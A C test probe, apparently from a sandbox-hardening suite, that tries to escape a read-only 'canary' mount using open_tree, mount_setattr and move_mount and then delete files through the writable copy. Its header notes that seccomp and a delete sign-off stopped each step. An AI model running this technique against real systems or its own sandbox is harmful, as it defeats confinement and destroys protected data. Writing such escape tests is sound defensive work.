// attack: escape: the new mount API: open_tree(OPEN_TREE_CLONE) of the canary, mount_setattr to clear MOUNT_ATTR_RDONLY, move_mount it into the workspace, then destroy through the detached/attached copy
// stopped by: seccomp(open_tree), seccomp(mount_setattr), seccomp(move_mount), sign-off(delete)
#define _GNU_SOURCE
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

struct mount_attr_ { unsigned long long attr_set, attr_clr, propagation, userns_fd; };

int main(void) {
    const char *canary = getenv("CANARY");
    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
    char f[3][256], p[4096];
    if (canary_files(canary, f, 3) < 3) { fprintf(stderr, "fewer than 3 canary files\n"); return 2; }
    errno = 0;
    int tree = (int)show("open_tree(canary, OPEN_TREE_CLONE|AT_RECURSIVE)", syscall(SYS_open_tree, AT_FDCWD, canary, 1 /* OPEN_TREE_CLONE */ | 0x8000 | O_CLOEXEC));
    struct mount_attr_ attr = {.attr_clr = 0x1 /* MOUNT_ATTR_RDONLY */};
    errno = 0;
    show("mount_setattr(tree, clear RDONLY)", syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH | 0x8000, &attr, sizeof attr));
    errno = 0;
    show("mount_setattr(canary itself, clear RDONLY)", syscall(SYS_mount_setattr, AT_FDCWD, canary, 0x8000, &attr, sizeof attr));
    errno = 0; show("unlinkat(tree fd, file 1)", tree >= 0 ? unlinkat(tree, f[0], 0) : (errno = EBADF, -1));
    mkdir("escape-mnt", 0755);
    errno = 0; show("move_mount(tree -> escape-mnt)", syscall(SYS_move_mount, tree, "", AT_FDCWD, "escape-mnt", 4 /* F_EMPTY_PATH */));
    snprintf(p, sizeof p, "escape-mnt/%s", f[1]);
    errno = 0; show("unlink(escape-mnt/file 2)", unlink(p));
    snprintf(p, sizeof p, "%s/%s", canary, f[2]);
    errno = 0; show("unlink(canary file 3) after clearing RDONLY", unlink(p));
    return 0;
}
